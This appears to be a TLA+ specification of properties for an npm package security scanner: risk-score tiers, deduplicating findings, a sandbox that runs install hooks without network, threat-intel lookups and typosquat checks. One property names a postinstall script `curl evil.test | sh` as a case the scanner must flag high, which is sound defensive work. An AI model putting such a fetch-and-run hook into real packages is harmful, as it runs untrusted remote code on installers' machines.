\* Properties of the scan coordinator (checked under SpecScan)

\* a static analyzer raises on the scanned package
AnalyzerThrows ==
  \/ scanIn.audit.throws
  \/ MetadataThrows(loadPkg(scanIn.file))

\* C2: when a static analyzer throws, the exception does not propagate out
\* of scan: scan never ends rejected, and past the analyzers all six results
\* are settled, the failing analyzer counting as zero findings.
C2_AnalyzerFailureIsolated ==
  AnalyzerThrows =>
    /\ scpc # "rejected"
    /\ scpc \in {"settled", "enrich", "dynamic", "returned"} => Len(settled) = 6

\* C4: a package whose postinstall script is `curl evil.test | sh` is scored
\* by scan into the high or critical tier (riskScore > 5.0).
C4_CurlPostinstallScoresHigh ==
  (scpc = "returned"
     /\ loadPkg(scanIn.file).scripts["postinstall"] = CurlPipeSh)
    => /\ scresult.riskScore > 500
       /\ scresult.riskLevel \in {"high", "critical"}

LevelRank(l) ==
  CASE l = "safe" -> 0 [] l = "low" -> 1 [] l = "medium" -> 2
    [] l = "high" -> 3 [] l = "critical" -> 4

\* C7: in every ScanResult riskLevel is the step function of riskScore
\* (<= 1.0 safe, <= 3.0 low, <= 5.0 medium, <= 7.5 high, else critical),
\* the nine documented points map as documented, and over all scores
\* 0.0 .. 10.0 a higher score never maps to a lower tier.
C7_LevelIsStepOfScore ==
  scpc = "returned" =>
    /\ LET sc == scresult.riskScore IN
       scresult.riskLevel =
         CASE sc <= 100 -> "safe"
           [] sc > 100 /\ sc <= 300 -> "low"
           [] sc > 300 /\ sc <= 500 -> "medium"
           [] sc > 500 /\ sc <= 750 -> "high"
           [] sc > 750 -> "critical"
    /\ toLevel(0) = "safe" /\ toLevel(100) = "safe"
    /\ toLevel(110) = "low" /\ toLevel(300) = "low"
    /\ toLevel(310) = "medium" /\ toLevel(500) = "medium"
    /\ toLevel(510) = "high" /\ toLevel(750) = "high"
    /\ toLevel(760) = "critical"
    /\ \A k \in 0..99 :
         LevelRank(toLevel(10 * k)) <= LevelRank(toLevel(10 * (k + 1)))

\* C7 witness: a scan returned a score on a tier boundary (7.5, high)
C7_Witness ==
  /\ scpc = "returned"
  /\ scresult.riskScore = 750
  /\ scresult.riskLevel = "high"

\* what the static analyzers and the enrichment pushed onto findings, in
\* the order scan collects them
StaticProduced ==
  LET json == loadPkg(scanIn.file) IN
  (IF scanIn.audit.throws THEN <<>> ELSE scanIn.audit.value)
    \o analyzeMetadata(json).findings
    \o scanIn.ast \o scanIn.entropy \o scanIn.binary
    \o (IF scanIn.threatIntel = "match"
        THEN ThreatFindings(sciocs, "match") ELSE <<>>)

\* everything all producers pushed, the sandbox run included
Produced ==
  StaticProduced
    \o (IF scanIn.dynamic /\ ~scanIn.runDynamic.throws
        THEN dynamicFindings(scanIn.runDynamic.value) ELSE <<>>)

IdentityOf(f) == <<f.type, f.file, f.line>>

\* positions of p holding the first finding of their (type, file, line)
FirstPositions(p) ==
  { i \in 1..Len(p) : \A j \in 1..(i - 1) : IdentityOf(p[j]) # IdentityOf(p[i]) }

\* the findings at those positions, in the order of p
FirstOccurrences(p) ==
  LET F == FirstPositions(p) IN
  [ n \in 1..Cardinality(F) |->
      p[CHOOSE i \in F : Cardinality({ j \in F : j <= i }) = n] ]

\* C12: findings are deduplicated once, after every producer has finished
\* and before scoring: until then the list is the raw concatenation; the
\* returned list has no two findings with the same (type, file, line), is
\* the first occurrence of each key in original order, and is what the score
\* is computed on; deduplicating again, or deduplicating the producers'
\* output fed twice, gives the same list.
C12_DedupOnceBeforeScoring ==
  /\ scpc = "dynamic" => scfindings = StaticProduced
  /\ scpc = "returned" =>
       LET r == scresult.findings IN
       /\ \A i, j \in 1..Len(r) :
            IdentityOf(r[i]) = IdentityOf(r[j]) => i = j
       /\ r = FirstOccurrences(Produced)
       /\ scresult.riskScore \in calcScore(r)
       /\ DedupFindings(r, Len(r)) = r
       /\ DedupFindings(Produced \o Produced, 2 * Len(Produced)) = r

\* a scan returned after static, enrichment and sandbox findings were
\* produced, some of them with the same key
C12_Witness ==
  /\ scpc = "returned"
  /\ Len(scresult.findings) < Len(Produced)
  /\ \E i \in 1..Len(scresult.findings) :
       scresult.findings[i].type = "threat-intel"
  /\ \E i \in 1..Len(scresult.findings) :
       scresult.findings[i].type = "dynamic-network"

\* C13: whatever the state of the manifest (missing or unreadable, not
\* JSON, or the JSON value null), scan does not throw.
C13_ManifestNeverFailsScan ==
  (scanIn.file.state \in {"missing", "invalid"}
     \/ loadPkg(scanIn.file).kind = "null")
    => scpc # "rejected"

\* the result of the same scan had dynamic analysis been off
StaticOnly == DedupFindings(StaticProduced, Len(StaticProduced))

\* C14: when dynamic analysis is requested and runDynamic raises, scan
\* still returns: dynamicAnalysis is absent, no dynamic-* finding is present,
\* and findings, IOCs and score are those of the scan without dynamic
\* analysis.
C14_SandboxFailureOmitted ==
  (scanIn.dynamic /\ scanIn.runDynamic.throws) =>
    /\ ~MetadataThrows(loadPkg(scanIn.file)) => scpc # "rejected"
    /\ scpc = "returned" =>
         /\ ~scresult.dynamicAnalysis.present
         /\ \A i \in 1..Len(scresult.findings) :
              scresult.findings[i].type \notin
                {"dynamic-network", "dynamic-resource", "dynamic-fs"}
         /\ scresult.findings = StaticOnly
         /\ scresult.iocs = sciocs
         /\ scresult.riskScore \in calcScore(StaticOnly)

\* a scan with findings returned after runDynamic raised
C14_Witness ==
  /\ scanIn.dynamic /\ scanIn.runDynamic.throws
  /\ scpc = "returned"
  /\ scresult.findings # <<>>
  /\ scresult.iocs # <<>>

\* C19: when the DynamicResult of the run has timedOut = true, the danger
\* dynamic-resource timeout finding is among the findings of the ScanResult,
\* whatever other findings the run produced.
C19_TimeoutFindingInResult ==
  (scpc = "returned" /\ scresult.dynamicAnalysis.present
     /\ scresult.dynamicAnalysis.result.timedOut)
    => \E i \in 1..Len(scresult.findings) :
         /\ scresult.findings[i].type = "dynamic-resource"
         /\ scresult.findings[i].severity = "danger"

\* C21: for every lifecycle hook the manifest declares with a command, a
\* critical install-script finding carrying that command is in the returned
\* ScanResult, so k declared hooks give k install-script findings.
C21_FindingPerDeclaredHook ==
  scpc = "returned" =>
    LET json == loadPkg(scanIn.file)
        declared == { h \in HookNames : json.scripts[h] \notin {Undeclared, ""} }
        scripts == { i \in 1..Len(scresult.findings) :
                       scresult.findings[i].type = "install-script" }
    IN  /\ \A h \in declared :
             \E i \in scripts :
               /\ scresult.findings[i].severity = "critical"
               /\ scresult.findings[i].code = json.scripts[h]
        /\ Cardinality(scripts) = Cardinality(declared)

SeverityRank(s) ==
  CASE s = "info" -> 0 [] s = "warning" -> 1 [] s = "danger" -> 2
    [] s = "critical" -> 3

\* C27: for every (type, file, line) the finding kept in the ScanResult has
\* the highest severity among the produced findings with that key.
C27_DedupKeepsHighestSeverity ==
  scpc = "returned" =>
    \A i \in 1..Len(scresult.findings) :
      \A j \in 1..Len(Produced) :
        IdentityOf(Produced[j]) = IdentityOf(scresult.findings[i])
          => SeverityRank(Produced[j].severity)
               <= SeverityRank(scresult.findings[i].severity)

----------------------------------------------------------------------------
\* Properties of the minified-file policy (checked under SpecMin)

FilesOf(findings) == { findings[i].file : i \in 1..Len(findings) }

\* the file list also holds the unminified counterpart X.ext of X.min.ext
CounterpartPresent(files, p) ==
  isMin(p) /\ \E i \in 1..Len(files) : files[i] = DropPiece(p, Len(p) - 1)

\* C5: each analyzer skips a file exactly when it is a minified file whose
\* unminified counterpart is in the file set; every other file, a minified
\* one without counterpart included, yields its findings.
C5_MinSkippedOnlyWithCounterpart ==
  \A i \in 1..Len(mfiles) :
    /\ mast.done =>
         (mfiles[i] \notin FilesOf(mast.findings)
            <=> CounterpartPresent(mfiles, mfiles[i]))
    /\ mentropy.done =>
         (mfiles[i] \notin FilesOf(mentropy.findings)
            <=> CounterpartPresent(mfiles, mfiles[i]))

----------------------------------------------------------------------------
\* Properties of the install command (checked under SpecInstall)

\* C3: the package manager is spawned only if every requested package was
\* fetched, scanned and found strictly below the --fail-on threshold, and
\* never with --dry-run (stated for a --fail-on that names a level).
C3_InstallOnlyWhenAllClean ==
  (ispawned # <<>> /\ IndexOfLevel(iopts.failOn) >= 0) =>
    /\ ~iopts.dryRun
    /\ \A i \in 1..Len(ipkgs) :
         /\ ipkgs[i].fetch = "ok"
         /\ ~ipkgs[i].scan.threw
         /\ IndexOfLevel(FinalOf(ipkgs[i], iopts).finalLevel)
              < IndexOfLevel(iopts.failOn)

----------------------------------------------------------------------------
\* Properties of the dynamic sandbox (checked under SpecDyn)

\* C1: whenever a lifecycle script is running in a container, that container
\* has no network; the fetch container, which has network, runs no hook.
C1_HooksOnlyWithoutNetwork ==
  \A r \in Roles :
    (dcont[r].state = "running" /\ dcont[r].hook # "none") =>
      (~dcont[r].network /\ r = "run")

\* a postinstall script is running in the execute container, after the fetch
\* container, which had network, has exited
C1_Witness ==
  /\ dcont["run"].state = "running"
  /\ dcont["run"].hook = "postinstall"
  /\ ~dcont["run"].network
  /\ dcont["fetch"].state = "exited"
  /\ dcont["fetch"].network
\* C15: a container still running when its timer expires is killed and the
\* returned DynamicResult has timedOut = true, for the fetch container as
\* for the execute container; a timer cancelled after its container exited
\* has killed nothing.
C15_TimeoutMarksResult ==
  \A r \in Roles :
    /\ (dcont[r].killed /\ dpc = "returned") => dresult.timedOut
    /\ dtimer[r] = "cleared" => ~dcont[r].killed

C17_RunTerminates == <>(dpc \in {"returned", "threw"})

\* runDynamic returned although a hook never came to an end by itself: the
\* execute container was killed while the hook loop was at a hanging hook
C17_Witness ==
  /\ dpc = "returned"
  /\ dcont["run"].killed
  /\ StepOf(dcont["run"]) = "hooks"
  /\ dcont["run"].hookIdx > 0
  /\ dpkg[RunHooks[dcont["run"].hookIdx]] = "hang"

\* C20: when a hook was ended by its timeout, the meta record of the run
\* has timedOut = true, whatever the hooks after it did.  (meta.json is
\* written after the hook loop, so every declared hook has run; a hook
\* that hangs is ended by `timeout 15s`.)
C20_HookTimeoutReported ==
  (doutDir.meta.present /\ \E h \in DOMAIN dpkg : dpkg[h] = "hang")
    => doutDir.meta.timedOut

----------------------------------------------------------------------------
\* Properties of dynamicFindings (checked under SpecXlat)

\* the (host, port) targets observed in a run
TargetsOf(r) ==
  { <<r.networkAttempts[i].domain, r.networkAttempts[i].port>> :
      i \in 1..Len(r.networkAttempts) }

\* the dynamic-network findings of a list
NetworkOnly(findings) ==
  { i \in 1..Len(findings) : findings[i].type = "dynamic-network" }

\* C18: dynamicFindings yields exactly one danger dynamic-network finding
\* for each distinct (host, port) target in networkAttempts and none for any
\* other target.
C18_OneFindingPerTarget ==
  xpc = "done" =>
    /\ Cardinality(NetworkOnly(xfindings)) = Cardinality(TargetsOf(xresult))
    /\ \A i \in NetworkOnly(xfindings) :
         /\ xfindings[i].severity = "danger"
         /\ \E a \in Targets :
              /\ <<a.domain, a.port>> \in TargetsOf(xresult)
              /\ xfindings[i].code = a.raw
----------------------------------------------------------------------------
\* Properties of checkThreatIntel (checked under SpecIntel)

\* positions of the IOCs of the call that VirusTotal takes and that the
\* database in use does not match
Unmatched ==
  { k \in 1..Len(tinput) :
      vtType(tinput[k].type) # "null" /\ BulkMatch(tdb, tinput[k]) = "" }

\* C22: one call of checkThreatIntel sends at most 4 requests to VirusTotal,
\* any two consecutive requests are at least the fixed delay apart, requests
\* are sent only when the API key is configured and only for IOCs the bulk
\* database did not match.
C22_LookupsRateLimited ==
  /\ Len(tlog) <= 4
  /\ \A k \in 1..(Len(tlog) - 1) : tlog[k + 1].at - tlog[k].at >= 15500
  /\ tlog # <<>> => tkey
  /\ \A k \in 1..Len(tlog) : tlog[k].ioc \in Unmatched

C22_Witness ==
  /\ tpc = "returned"
  /\ Len(tlog) = 4
  /\ Cardinality(Unmatched) > 4

\* findings emitted for the k-th IOC of the call
FindingsFor(k) ==
  { j \in 1..Len(tfindings) :
      /\ tfindings[j].type = "threat-intel"
      /\ tfindings[j].code = tinput[k].value
      /\ tfindings[j].file = ContextFile(tinput[k])
      /\ tfindings[j].line = ContextLine(tinput[k]) }

\* C23: checkThreatIntel keeps number, order, type, value and context of the
\* IOCs; threatMatch is set on an IOC exactly when one threat-intel finding
\* was emitted for it, every finding belongs to an IOC, and env-var and
\* wallet IOCs are neither decorated nor reported.
C23_EnrichmentOnlyDecorates ==
  /\ Len(tiocs) = Len(tinput)
  /\ \A k \in 1..Len(tinput) :
       /\ tiocs[k].type = tinput[k].type
       /\ tiocs[k].value = tinput[k].value
       /\ tiocs[k].context = tinput[k].context
       /\ tiocs[k].threatMatch # NoMatch <=> Cardinality(FindingsFor(k)) = 1
       /\ Cardinality(FindingsFor(k)) <= 1
       /\ tinput[k].type \notin {"domain", "url", "ip"}
            => tiocs[k].threatMatch = NoMatch /\ FindingsFor(k) = {}
  /\ \A j \in 1..Len(tfindings) : \E k \in 1..Len(tinput) : j \in FindingsFor(k)

C23_Witness ==
  /\ tpc = "returned"
  /\ \E k \in 1..Len(tiocs) : tiocs[k].threatMatch.source = "URLhaus"
  /\ \E k \in 1..Len(tiocs) : tiocs[k].threatMatch.source = "VirusTotal"
  /\ \E k \in 1..Len(tiocs) :
       tiocs[k].type = "domain" /\ tiocs[k].threatMatch = NoMatch
  /\ \E k \in 1..Len(tiocs) : tiocs[k].type = "env-var"
  /\ \E k \in 1..Len(tiocs) : tiocs[k].type = "wallet-eth"
----------------------------------------------------------------------------
\* Properties of the reputation cache (checked under SpecCache)

\* db is a database fetched less than one hour before now
Younger(db, now) == db.present /\ now - db.fetchedAt < 3600000

C30_FailedFetchNotCached ==
  [][ /\ (tpc = "fetching" /\ ~tfeed.ok /\ tpc' = "loop")
           => \A k \in 1..Len(tinput) : BulkMatch(tdb', tinput[k]) = ""
      /\ (tpc = "called" /\ tlast = "failed" /\ Younger(tdisk, tnow))
           => tpc' = "fetching" ]_vars
----------------------------------------------------------------------------
\* Properties of the typosquat check (checked under SpecTypo)

\* C25: a package named exactly like a listed popular package gets no
\* typosquat finding; a package whose name is not listed and is one or two
\* edits away from a listed name gets a danger typosquat finding.
C25_OnlyNearMissesFlagged ==
  ypc = "done" =>
    LET listed == { POPULAR[k] : k \in 1..Len(POPULAR) } IN
    /\ yname \in listed => yfindings = <<>>
    /\ (/\ yname # ""
        /\ yname \notin listed
        /\ \E p \in listed : levenshtein(yname, p) \in {1, 2})
         => \E k \in 1..Len(yfindings) :
              /\ yfindings[k].type = "typosquat"
              /\ yfindings[k].severity = "danger"
----------------------------------------------------------------------------
\* Properties of overlapping sandbox runs (checked under SpecRun)

\* the invocation has created resources and not yet removed them
Running(r) == rpc[r] \in {"dir", "volume", "fetch", "run"}

\* C28: two runDynamic invocations that overlap in time have distinct output
\* directories, distinct workspace volumes and distinct container names, and
\* each one's output directory and volume exist until it removes them itself.
C28_RunsIsolated ==
  \A r, s \in Invocations :
    (r # s /\ Running(r) /\ Running(s)) =>
      /\ rname[r].outDir # rname[s].outDir
      /\ rname[r].volName = Unset \/ rname[r].volName # rname[s].volName
      /\ rname[r].fetchName = Unset \/ rname[r].fetchName # rname[s].fetchName
      /\ rname[r].runName = Unset \/ rname[r].runName # rname[s].runName
      /\ rname[r].outDir \in rdirs
      /\ rname[r].volName = Unset \/ rname[r].volName \in rvols
----------------------------------------------------------------------------
\* Properties of the scan command (checked under SpecCmd)

\* C29: once fetchPackage succeeded for a registry package, the temp
\* directory is gone however the scan command ends: by returning, by the
\* scan throwing, or by process.exit(1) when the level meets --fail-on.
C29_TempDirRemoved ==
  (/\ cpc \in {"returned", "rejected", "exit"}
   /\ ~clocal
   /\ cpkg.fetch = "ok")
    => ~ctmp
----------------------------------------------------------------------------
\* Properties of calcScore in double precision (checked under SpecOrder)

\* the lists that hold the findings of sfindings in another order
Reorderings ==
  LET n == Len(sfindings) IN
  { [ i \in 1..n |-> sfindings[p[i]] ] :
      p \in { q \in [1..n -> 1..n] : \A i, j \in 1..n : q[i] = q[j] => i = j } }

\* C26: the score depends on the multiset of findings only: every
\* permutation of the scored list gets the score the list got.
C26_OrderIndependent ==
  spc = "scored" => \A P \in Reorderings : calcScoreDouble(P) = sscore

====
